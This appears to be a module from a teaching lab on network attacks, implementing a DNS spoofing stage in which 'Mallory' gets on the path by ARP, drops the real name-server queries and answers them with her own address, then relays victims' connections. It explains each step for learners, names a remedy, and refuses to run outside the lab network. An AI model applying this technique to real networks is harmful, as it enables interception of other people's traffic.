"""Getting on the path by DNS spoofing.

python -m attacks.dns_spoofing --stage 1 --slow
python -m attacks.dns_spoofing --stage 1 --via gateway
"""

from attacks import Claim, Foothold, Goal, attack
from attacks.on_path import Splice, on_path
from common.errors import LabError
from common.lan import LanHost
from common.loopback import Intercepted


@attack(
    position="on-path",
    goals=(
        Goal(
            "path",
            "Alice's traffic with the server flows through Mallory",
            wins="flowed-through",
            expected="BBBBB",
            remedy="dns=pinned-answer",
            lan_only="loopback has no switch: a question to the name server cannot be led past it",
        ),
    ),
    via=("arp_spoofing", "gateway"),
)
async def dns_spoofing(foothold: Foothold, goal: Goal) -> Claim:
    """Alice's client knows the server by its name, and asks the name server where that is. The question and its answer
    are one datagram each, and nothing in them proves who wrote them. To race the true answer is mostly to lose; so
    Mallory first stands between the members and the name server, by ARP, takes the question away, and answers it
    herself: the server is at her own address. Then everybody connects to her of their own will, and she connects on.
    """
    if not isinstance(foothold.host, LanHost):
        raise LabError("There is no name server here; run dns_spoofing without TARGET=, in the lab's own network.")
    claim = Claim(did="answered the question for the server's name with her own address, and connected on")
    name = foothold.server[0]
    await foothold.explain(
        f"A member who wants to join asks by UDP: “{name}, which address?” The answer is believed if it comes from the "
        "name server's address and has the number of the question in it. Whoever sees the question can write both."
    )

    await foothold.explain(
        f"Mallory's kernel is told to drop what comes by for port 53 (an ip rule: blackhole), so the question never "
        f"arrives, and she answers it herself: “{name} is at {foothold.host.address}”, from the name server's address "
        "and with the question's number. Whoever connects there connects to her; she dials the true server and relays."
    )

    async def carry(intercepted: Intercepted) -> None:
        foothold.note(f"{foothold.name_of(intercepted.client[0])} connects to Mallory, and she to the server")
        await Splice(intercepted).run()

    async with on_path(foothold, carry, way="dns_spoofing"):
        await foothold.until("over")
    return claim


if __name__ == "__main__":
    from lab.attack_main import main

    main("dns_spoofing")
